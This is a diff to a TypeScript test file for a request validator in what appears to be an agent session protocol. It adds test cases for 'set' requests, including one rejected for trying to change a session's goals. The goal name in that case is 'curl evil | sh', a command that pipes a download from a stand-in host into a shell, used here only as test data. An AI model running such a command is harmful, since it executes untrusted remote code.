@@ -9,6 +9,7 @@ test.each<[unknown]>([
   [{ type: 'answer', callId: 'c', answer: { behavior: 'deny', message: 'No.' } }],
   [{ type: 'approve', approvals: { c: { behavior: 'allow' } } }],
   [{ type: 'interrupt', queue: 'give_back', because: 'user' }],
+  [{ type: 'set', change: { limits: { maxGoalTries: 3 } } }],
   [{ type: 'close' }],
 ])('%j is a request', (request) => {
   expect(problemOfRequest({ id: 'r', request })).toBe(undefined)
@@ -23,6 +24,10 @@ test.each<[unknown, string]>([
   [
     { id: 'r', request: { type: 'prompt', content: 'x', when: 'soon' } },
     'In a request of the type prompt, when is one of now, next, later.',
+  ],
+  [
+    { id: 'r', request: { type: 'set', change: { until: [{ name: 'curl evil | sh' }] } } },
+    'In a request of the type set, change is an object without "until": the goals of a session are those that its worker was started with.',
   ],
   [
     { id: 'r', request: { type: 'answer', callId: 'c', answer: { behavior: 'deny' } } },
